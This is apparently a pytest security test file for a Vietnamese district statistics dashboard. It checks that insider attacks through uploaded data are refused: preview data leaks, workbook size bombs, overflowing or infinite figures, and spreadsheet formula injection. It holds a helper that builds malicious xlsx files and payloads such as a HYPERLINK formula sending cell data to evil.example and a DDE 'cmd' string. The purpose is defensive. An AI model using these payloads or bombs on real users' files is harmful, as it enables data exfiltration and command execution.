"""An insider with an ordinary account attacks through the data: each attack of issue 17 as it
was made, and refused (the import preview's leak, workbook bombs, poisoned figures, formulas in
files for people, odd input that used to end in a traceback)."""

from __future__ import annotations

import io
import re
import time
import tracemalloc
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete, insert
from streamlit.testing.v1 import AppTest

from apptest import DASHBOARD, actor, sign_in, signed_in
from cds_core import limits, workbook
from cds_core.catalogue import VALUE_CODES
from cds_core.errors import CdsError
from cds_core.formatting import format_count, format_pct
from cds_core.hamlets import check_activity
from cds_core.interchange import ValueRecord, parse_values_all
from cds_core.limits import MAX_CELL, MAX_ROWS
from cds_core.values import MAX_COMMENT, parse
from db import orgunits, transfer, values
from db.database import session_scope
from db.errors import FieldErrors
from db.models import DataValue
from db.permissions import SYSTEM, Actor
from db.scorecards import for_unit
from db.transfer import REJECTED, preview
from db.values import unit_values
from reporting import files

HEADER = "org_unit,period,element,value,comment\n"
MARKER = "BÍ-MẬT-CỦA-XÃ-KHÁC"
HAMLET_EDITOR = ("team1", "hamlet_editor")  # tests/apptest.USERS: the editor of PHU_TAN_AP1


def plan_for(session, text: str, actor: Actor):
    records, errors = parse_values_all(text)
    return preview(session, actor=actor, records=records, errors=errors)


# -- 1. the import preview leaked other units' figures --


@pytest.fixture
def other_commune(demo_session):
    """A second commune holding marker figures and a marker narrative."""
    from cds_core.interchange import OrgUnitRecord

    # Under the old district, which ended with the reform: a commune of 2024.
    orgunits.upsert(demo_session, actor=SYSTEM,
                    records=[OrgUnitRecord(2, "XA_KHAC", "Xã Khác", "xa", "TAN_PHU_DONG", None,
                                           date(2025, 6, 30))])  # fmt: skip
    values.save(demo_session, actor=SYSTEM, org_code="XA_KHAC", period="2024Q1",
                entries={"ht_staff_total": "777", "nar_difficulties": MARKER},
                comments={"ht_staff_total": MARKER})  # fmt: skip
    demo_session.commit()
    return demo_session


def test_a_hamlet_editor_sees_nothing_of_another_commune_in_the_preview(other_commune):
    s = other_commune
    hamlet = actor(s, "team1", "hamlet_editor", "PHU_TAN_AP1")
    plan = plan_for(s, HEADER + "\n".join([
        "XA_KHAC,2024Q1,ht_staff_total,1,",
        "XA_KHAC,2024Q1,nar_difficulties,x,",
        "PHU_TAN,2024Q1,ht_staff_total,1,",  # its own commune, above its hamlet
        "KHONG_CO,2024Q1,ht_staff_total,1,",  # a code that does not exist
    ]), hamlet)  # fmt: skip
    assert [r.state for r in plan.rows] == [REJECTED] * 4
    assert [r.old for r in plan.rows] == [None] * 4
    # Out of scope and unknown read the same: nobody learns which codes exist.
    assert {r.reason.key for r in plan.rows} == {"err_org_not_found"}
    assert MARKER not in repr(plan) and "777" not in repr([r.old for r in plan.rows])


def test_the_preview_page_shows_a_hamlet_editor_no_other_units_value_anywhere(app_db):
    with session_scope(app_db) as session:
        values.save(session, actor=SYSTEM, org_code="PHU_TAN", period="2024Q1",
                    entries={"nar_difficulties": MARKER},
                    comments={"ht_staff_total": MARKER})  # fmt: skip
    at = signed_in(*HAMLET_EDITOR)
    at.switch_page("app_pages/transfer.py").run()
    upload = HEADER + "PHU_TAN,2024Q1,nar_difficulties,x,\nPHU_TAN,2024Q1,ht_staff_total,1,\n"
    at.file_uploader(key="transfer_file").upload("leak.csv", upload.encode(), "text/csv")
    at.run()
    assert not at.exception
    frames = " ".join(d.value.to_csv() for d in at.dataframe)
    texts = " ".join(str(e.value) for kind in ("markdown", "error", "info", "caption", "metric")
                     for e in at.get(kind))  # fmt: skip
    assert MARKER not in frames + texts
    assert "22" not in [v for d in at.dataframe for v in d.value.get("Giá trị cũ", [])]


# -- 2. workbook bombs --


NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def xlsx(sheet_rows: bytes, *, dimension: str = "A1:F3", shared: list[str] = (),
         shared_bytes: int = 0) -> bytes:  # fmt: skip
    """A workbook written part by part, as an attacker would: any ``<dimension>``, any shared
    strings (``shared_bytes``: one string that long, streamed into the zip)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", f'<Types xmlns="{TYPES}"><Default Extension="rels" '
                   f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   f'<Default Extension="xml" ContentType="application/xml"/>'
                   f'<Override PartName="/xl/workbook.xml" ContentType="{MAIN}.sheet.main+xml"/>'
                   f'<Override PartName="/xl/worksheets/sheet1.xml" '
                   f'ContentType="{MAIN}.worksheet+xml"/><Override '
                   f'PartName="/xl/sharedStrings.xml" ContentType="{MAIN}.sharedStrings+xml"/>'
                   f"</Types>")  # fmt: skip
        z.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{PKG}"><Relationship Id="r1" '
            f'Type="{RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr("xl/workbook.xml", f'<workbook {NS} xmlns:r="{RELS}"><sheets><sheet '
                   f'name="Trang" sheetId="1" r:id="r1"/></sheets></workbook>')  # fmt: skip
        z.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{PKG}"><Relationship '
                   f'Id="r1" Type="{RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
                   f'<Relationship Id="r2" Type="{RELS}/sharedStrings" '
                   f'Target="sharedStrings.xml"/></Relationships>')  # fmt: skip
        z.writestr("xl/worksheets/sheet1.xml", f'<worksheet {NS}><dimension ref="{dimension}"/>'
                   f"<sheetData>".encode() + sheet_rows + b"</sheetData></worksheet>")  # fmt: skip
        with z.open("xl/sharedStrings.xml", "w") as part:
            part.write(f"<sst {NS}>".encode())
            for text in shared:
                part.write(f"<si><t>{text}</t></si>".encode())
            if shared_bytes:
                part.write(b"<si><t>")
                chunk = b"A" * (1 << 22)
                for _ in range(shared_bytes // len(chunk)):
                    part.write(chunk)
                part.write(b"</t></si>")
            part.write(b"</sst>")
    return out.getvalue()


def cell(ref: str, value: object) -> str:
    if isinstance(value, tuple):  # (formula, cached result or None)
        cached = "" if value[1] is None else f"<v>{value[1]}</v>"
        return f'<c r="{ref}"><f>{value[0]}</f>{cached}</c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def row(number: int, *values: object) -> bytes:
    cells = "".join(cell(f"{'ABCDEF'[i]}{number}", v) for i, v in enumerate(values) if v != "")
    return f'<row r="{number}">{cells}</row>'.encode()


TEMPLATE_HEAD = row(1, "Mã đơn vị") + row(2, *workbook.COLUMNS)


def read_bounded(data: bytes) -> tuple[float, float, object]:
    """Seconds and peak megabytes of reading ``data``, and what came back (or the refusal)."""
    tracemalloc.start()
    start = time.monotonic()
    try:
        outcome: object = workbook.read(data)
    except CdsError as exc:
        outcome = exc
    seconds = time.monotonic() - start
    peak = tracemalloc.get_traced_memory()[1] / 1e6
    tracemalloc.stop()
    return seconds, peak, outcome


def test_a_workbook_claiming_a_million_rows_of_16384_columns_is_refused_in_seconds():
    junk = b"".join(row(n, "x") for n in range(3, 1000))
    corner = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    data = xlsx(TEMPLATE_HEAD + junk + corner, dimension="A1:XFD1048576")
    assert len(data) < 40_000  # a small file: the claim, not the content, was the bomb
    seconds, peak, outcome = read_bounded(data)
    assert isinstance(outcome, CdsError) and outcome.key == "err_too_many_rows"
    assert seconds < 15 and peak < 100


def test_the_declared_dimension_is_ignored_for_a_file_that_is_otherwise_fine():
    data = xlsx(TEMPLATE_HEAD + row(3, "PHU_TAN", "2024Q1", "ht_staff_total", "", 22),
                dimension="A1:XFD1048576")  # fmt: skip
    records, errors = workbook.read(data)
    assert [(r.element, r.value) for r in records] == [("ht_staff_total", 22.0)] and not errors


def test_a_small_workbook_holding_a_huge_shared_string_is_refused_before_parsing():
    # 128 MiB here (the attack used 1 GiB): over twice the unpacked limit, in a 0.6 MB file.
    data = xlsx(TEMPLATE_HEAD + row(3, "PHU_TAN", "2024Q1", "ht_staff_total", "", 22),
                shared_bytes=1 << 27)  # fmt: skip
    assert len(data) < 1_000_000
    seconds, peak, outcome = read_bounded(data)
    assert isinstance(outcome, CdsError) and outcome.key == "err_xlsx_too_big"
    assert seconds < 5 and peak < 50


def test_an_oversized_upload_and_an_oversized_cell_are_refused_in_one_line():
    with pytest.raises(CdsError) as info:
        workbook.read(b"PK" + b"\0" * (11 * 1024 * 1024))
    assert info.value.key == "err_file_too_big"
    long = xlsx(TEMPLATE_HEAD + row(3, "PHU_TAN", "2024Q1", "sw_vendors", "", "x" * (MAX_CELL + 1)))
    with pytest.raises(CdsError) as info:
        workbook.read(long)
    assert (info.value.reason.key, info.value.line, info.value.column) == (
        "err_cell_too_long",
        3,
        "E",
    )


@pytest.mark.parametrize(
    "damage",
    ["truncated", "bad string index", "no sheet"],
)
def test_a_damaged_workbook_is_one_clear_message(damage):
    good = xlsx(TEMPLATE_HEAD + row(3, "PHU_TAN", "2024Q1", "ht_staff_total", "", 22),
                shared=["PHU_TAN"])  # fmt: skip
    if damage == "truncated":
        data = good[: len(good) * 2 // 3]
    elif damage == "bad string index":
        data = xlsx(TEMPLATE_HEAD + b'<row r="3"><c r="A3" t="s"><v>99</v></c></row>',
                    shared=["PHU_TAN"])  # fmt: skip
    else:
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w") as dst:
            for item in src.infolist():
                if "worksheets" not in item.filename:
                    dst.writestr(item, src.read(item.filename))
        data = out.getvalue()
    with pytest.raises(CdsError) as info:
        workbook.read(data)
    assert info.value.key == "err_not_xlsx"


def test_formulas_in_an_uploaded_workbook_are_reported_never_imported_silently():
    data = xlsx(
        TEMPLATE_HEAD
        + row(3, "PHU_TAN", "2024Q1", "ht_staff_total", "", ("SUM(1,21)", 22))  # cached result
        + row(4, "PHU_TAN", "2024Q1", "ht_staff_with_pc", "", ("E3-1", None))  # never computed
        + row(5, "PHU_TAN", "2024Q1", "ht_lan_pcs", "", 1)
    )
    records, errors = workbook.read(data)
    assert [r.element for r in records] == ["ht_lan_pcs"]
    assert [(e.line, e.column, e.reason.key) for e in errors] == [
        (3, "value", "err_formula"),
        (4, "value", "err_formula"),
    ]
    assert errors[0].reason.params["formula"] == "=SUM(1,21)"


# -- 3. poisoned figures --

POISON = ("1" + "0" * 28, "9" * 400, "1e308", "inf", "nan", "١٢")


@pytest.mark.parametrize("typed", POISON)
def test_every_entry_path_refuses_10_to_the_28_infinity_and_foreign_digits(demo_session, typed):
    # The one parser every path reads through …
    with pytest.raises(CdsError):
        parse(VALUE_CODES["xh_households"], typed)
    # … the form and the hamlet's figures (db.values.save) …
    with pytest.raises(FieldErrors):
        values.save(demo_session, actor=SYSTEM, org_code="PHU_TAN_AP1", period="2024Q1",
                    entries={"xh_households": typed})  # fmt: skip
    # … a CSV import, and an Excel import …
    _, errors = parse_values_all(HEADER + f"PHU_TAN_AP1,2024Q1,xh_households,{typed},\n")
    assert [e.column for e in errors] == ["value"]
    sheet = xlsx(TEMPLATE_HEAD + row(3, "PHU_TAN_AP1", "2024Q1", "xh_households", "", typed))
    assert [e.column for e in workbook.read(sheet)[1]] == ["value"]
    # … and the hamlet's activity log.
    _, problems = check_activity({"date": date(2024, 2, 1), "kind": "tuyen_truyen",
                                  "people_reached": typed}, today=date(2024, 3, 1))  # fmt: skip
    assert "people_reached" in problems


def test_bounds_come_from_the_catalogue_and_say_the_limit():
    with pytest.raises(CdsError) as info:
        parse(VALUE_CODES["ht_staff_total"], "10001")
    assert (info.value.key, info.value.params["limit"]) == ("err_too_large", 10_000)
    assert parse(VALUE_CODES["ht_staff_total"], "10000") == 10_000
    with pytest.raises(CdsError) as info:
        parse(VALUE_CODES["em_regular_use_pct"], "100,5")
    assert info.value.key == "err_pct_range"


def _store(session, cells: dict[tuple[str, str], float]) -> None:
    """Values written behind the checks' back, as they were stored before the bounds."""
    ids = {u.code: u.id for u in orgunits.all_units(session)}
    for org, code in cells:
        session.execute(delete(DataValue).where(DataValue.org_unit_id == ids[org],
                                                DataValue.element == code))  # fmt: skip
    at = datetime(2024, 4, 1, tzinfo=UTC)
    session.execute(insert(DataValue.__table__), [
        {"org_unit_id": ids[org], "period": "2024Q1", "element": code, "value_num": v,
         "value_text": None, "comment": "", "updated_by": "x", "updated_at": at}
        for (org, code), v in cells.items()
    ])  # fmt: skip
    session.commit()


POISONED = {
    ("PHU_TAN_AP1", "xh_households"): 1e308,
    ("PHU_TAN_AP2", "xh_households"): 1e308,  # their sum overflows to infinity
    ("PHU_TAN_AP1", "xh_fiber_households"): 1e28,
    ("PHU_TAN", "ht_bandwidth_mbps"): float("inf"),
    ("PHU_TAN", "tt_posts"): 1e28,
}


def test_figures_stored_before_the_bounds_never_raise_anywhere(demo_session):
    kept = {code: unit_values(demo_session, orgunits.get(demo_session, code), "2024Q1")
            for code in ("PHU_TAN_AP3", "PHU_TAN_AP4")}  # fmt: skip
    _store(demo_session, POISONED)
    # Two hamlets at 1e308 once made the commune's households infinite and its fibre rate
    # "0.0 not met" (SQLite), or every page above them fail (PostgreSQL's sum overflows): a
    # value no element allows now counts as no figure, and the other hamlets still add up.
    rows = {r.indicator: r for r in for_unit(demo_session, "PHU_TAN", "2024Q1")}
    fibre = rows["xh_fiber_rate"].value
    assert fibre.denominator == sum(v["xh_households"].value for v in kept.values())
    hamlet = {r.indicator: r for r in for_unit(demo_session, "PHU_TAN_AP1", "2024Q1")}
    assert hamlet["xh_fiber_rate"].status.value == "no_data"
    for org in ("PHU_TAN", "TAN_PHU_DONG", "TIEN_GIANG"):
        assert for_unit(demo_session, org, "2024Q1")
    assert files.docx_file(demo_session, "PHU_TAN", "2024Q1")
    assert files.xlsx_file(demo_session, "PHU_TAN", "2024Q1")
    assert "inf" in transfer.export_csv(demo_session, org_code="PHU_TAN")
    assert format_count(1e308) and format_pct(float("inf")) == "∞"


def test_every_page_still_renders_with_poisoned_figures_stored(app_db):
    with session_scope(app_db) as session:
        _store(session, POISONED)
    at = signed_in("district", "editor")
    for page in ("overview", "trends", "compare", "drilldown", "data_entry", "reports",
                 "transfer", "hamlet"):  # fmt: skip
        at.session_state["org"] = "PHU_TAN_AP1" if page == "hamlet" else "PHU_TAN"
        at.switch_page(f"app_pages/{page}.py").run()
        assert not at.exception, page
        assert at.title[0].value


def test_the_migration_reports_values_stored_out_of_bounds(tmp_path, capfd):
    from alembic import command

    from db.database import get_engine
    from db.migrate import alembic_config, upgrade

    engine = get_engine(f"sqlite:///{tmp_path / 'old.db'}")
    config = alembic_config()
    with engine.connect() as connection:
        config.attributes["connection"] = connection
        command.upgrade(config, "0004")
    capfd.readouterr()
    with engine.begin() as connection:
        # The units as that schema held them (the map's own tables come with a later revision).
        connection.exec_driver_sql(
            "INSERT INTO org_unit (id, code, name, level, parent_id, path, is_demo) VALUES"
            " (1, 'PHU_TAN', 'Xã Phú Tân', 'xa', NULL, '/1/', 0),"
            " (2, 'PHU_TAN_AP1', 'Ấp 1', 'ap', 1, '/1/2/', 0),"
            " (3, 'PHU_TAN_AP2', 'Ấp 2', 'ap', 1, '/1/3/', 0)"
        )
        ids = dict(connection.exec_driver_sql("SELECT code, id FROM org_unit").all())
        for (org, code), v in POISONED.items():
            connection.exec_driver_sql(
                "INSERT INTO data_value (org_unit_id, period, element, value_num, comment, "
                "updated_by, updated_at) VALUES (?, '2024Q1', ?, ?, '', 'x', '2024-04-01')",
                (ids[org], code, v),
            )
    upgrade(engine)
    report = capfd.readouterr().err.splitlines()
    assert len(report) == len(POISONED) + 1
    assert any(re.search(r"PHU_TAN 2024Q1 ht_bandwidth_mbps = inf \(từ 0 đến 100000\)", line)
               for line in report)  # fmt: skip
    assert report[-1].startswith(f"{len(POISONED)} giá trị")


# -- 4. formulas in the report workbook --


def test_the_report_workbook_holds_no_formula(demo_session):
    payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', "+cmd|' /C calc'!A0", "@SUM(1)"]
    values.save(demo_session, actor=SYSTEM, org_code="PHU_TAN", period="2024Q1",
                entries={"nar_difficulties": payloads[0], "sw_vendors": payloads[1],
                         "vb_print_frequency": payloads[2]})  # fmt: skip
    data = files.xlsx_file(demo_session, "PHU_TAN", "2024Q1")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    cells = {c.value: c for ws in load_workbook(io.BytesIO(data)) for r in ws.iter_rows()
             for c in r if isinstance(c.value, str)}  # fmt: skip
    found = [next(v for v in cells if p in v) for p in payloads]
    assert all(cells[v].data_type == "s" and cells[v].quotePrefix for v in found)


def test_table_downloads_neutralise_what_a_spreadsheet_would_run():
    import pandas as pd

    from ui.widgets import table_csv

    frame = pd.DataFrame({"Đơn vị": ["=1+2", "-x", "Xã Phú Tân"], "Số": [-3, 1, 2]})
    assert table_csv(frame).decode("utf-8-sig").splitlines() == [
        "Đơn vị,Số",
        "'=1+2,-3",
        "'-x,1",
        "Xã Phú Tân,2",
    ]


# -- 7, 8. odd input: one clear line, never a traceback --


def test_a_200000_character_csv_cell_is_one_line_naming_the_line():
    with pytest.raises(CdsError) as info:
        parse_values_all(HEADER + "PHU_TAN,2024Q1,sw_vendors,x,\n" + "PHU_TAN,2024Q1,sw_vendors,"
                         + "x" * 200_000 + ",\n")  # fmt: skip
    assert (info.value.line, info.value.reason.key) == (3, "err_cell_too_long")


def test_a_semicolon_separated_csv_is_refused_naming_the_separator():
    with pytest.raises(CdsError) as info:
        parse_values_all("org_unit;period;element;value;comment\nPHU_TAN;2024Q1;hn_points;1;\n")
    assert info.value.reason.key == "err_csv_separator"
    assert info.value.reason.params["separator"] == ";"


def test_too_many_rows_or_too_long_a_parse_are_refused(monkeypatch):
    body = "".join(f"XA{i},2024Q1,hn_points,1,\n" for i in range(2000))
    with pytest.raises(CdsError) as info:
        parse_values_all(HEADER + body, max_rows=1999)
    assert (info.value.line, info.value.reason.key) == (2001, "err_too_many_rows")
    assert len(parse_values_all(HEADER + body, max_rows=MAX_ROWS)[0]) == 2000
    monkeypatch.setattr(limits, "MAX_PARSE_SECONDS", 0)
    with pytest.raises(CdsError) as info:
        parse_values_all(HEADER + body)
    assert info.value.key == "err_parse_too_slow"


def test_a_long_comment_is_refused_with_its_limit():
    with pytest.raises(CdsError) as info:
        parse_values_all(HEADER + f"PHU_TAN,2024Q1,hn_points,1,{'x' * 120_000}\n")
    assert (info.value.line, info.value.reason.params) == (2, {"limit": MAX_CELL})
    _, errors = parse_values_all(HEADER + f"PHU_TAN,2024Q1,hn_points,1,{'x' * (MAX_COMMENT + 1)}\n")
    assert (errors[0].column, errors[0].reason.key) == ("comment", "err_comment_too_long")
    assert errors[0].reason.params == {"limit": MAX_COMMENT, "length": MAX_COMMENT + 1}


@pytest.mark.parametrize(
    ("code", "typed", "value", "note"),
    [
        ("ht_staff_total", "1.096", 1096.0, "note_read_grouped"),  # a count: grouping
        ("ht_bandwidth_mbps", "1.096", 1.096, "note_read_decimal"),  # a decimal: the point
        ("ht_bandwidth_mbps", '"1,5"', 1.5, None),
    ],
)
def test_a_number_read_two_ways_is_said_how_it_was_read(demo_session, code, typed, value, note):
    plan = plan_for(demo_session, HEADER + f"PHU_TAN,2024Q1,{code},{typed},\n", SYSTEM)
    [line] = plan.rows
    assert line.new == value
    assert (line.note[0] if line.note else None) == note


def test_the_preview_runs_the_apply_so_they_agree(demo_session):
    # A value that only the write path checks (built in code, not parsed from a file): the
    # preview's own row checks pass it, and its dry run of the apply rejects it.
    sneaky = ValueRecord(2, "PHU_TAN", "2024Q1", "hn_points", float("inf"), "")
    plan = preview(demo_session, actor=SYSTEM, records=[sneaky], errors=[])
    assert [(r.state, r.reason.key) for r in plan.rows] == [(REJECTED, "err_not_number")]
    assert not plan.applicable
    tiny = plan_for(demo_session, HEADER + "PHU_TAN,2024Q1,ht_bandwidth_mbps,0.0000001,\n",
                    SYSTEM)  # fmt: skip
    assert tiny.applicable  # and Apply takes it: "1e-07" is never written back for re-reading
    records, _ = parse_values_all(HEADER + "PHU_TAN,2024Q1,ht_bandwidth_mbps,0.0000001,\n")
    assert transfer.import_records(demo_session, actor=SYSTEM, records=records).changed == 1


def test_the_trend_page_of_a_hamlet_indicator_does_not_break_for_a_hamlet_editor(app_db):
    at = sign_in(AppTest.from_file(DASHBOARD, default_timeout=60), *HAMLET_EDITOR).run()
    at.switch_page("app_pages/trends.py").run()
    at.selectbox(key="trend_indicator").set_value("xh_fiber_rate").run()
    assert not at.exception
    assert not at.get("page_link")  # no way to the comparison page it does not have
